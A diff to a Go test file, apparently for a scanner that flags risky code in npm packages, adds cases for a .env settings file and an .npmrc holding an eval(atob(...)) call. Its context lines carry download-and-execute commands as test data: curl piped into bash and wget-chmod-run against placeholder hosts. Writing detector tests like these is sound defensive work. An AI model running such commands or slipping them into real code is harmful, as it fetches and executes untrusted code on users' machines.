@@ -110,6 +110,9 @@ func TestContentDetectors(t *testing.T) {
 		{name: "npm config get registry is fine", new: ctAppend("const r = execSync('npm config get registry');"), id: CredentialAccess},
 		{name: "npm lifecycle variables are fine", new: ctAppend("const e = process.env.npm_lifecycle_event;", "const n = process.env.npm_package_name;"), id: CredentialAccess},
 
+		{name: "a .env of settings is not code", new: ctWith(map[string]string{".env": "# local\nNPM_TOKEN=demo-value\n"}), id: CredentialAccess},
+		{name: "an .npmrc holding code is code", new: ctWith(map[string]string{".npmrc": "eval(atob(\"Ly9yZWdpc3RyeQ==\"));\n"}), id: DynamicCode, want: true},
+
 		// dynamic-code: download and execute, anywhere
 		{name: "curl piped into bash", new: ctAppend("execSync('curl -s https://cdn.example.invalid/p.sh | bash');"), id: DynamicCode, want: true, sev: High, inTitle: "downloads and runs"},
 		{name: "wget then chmod", new: ctAppend("run('wget -q -O /tmp/x https://a.example.invalid/x && chmod +x /tmp/x && /tmp/x');"), id: DynamicCode, want: true},
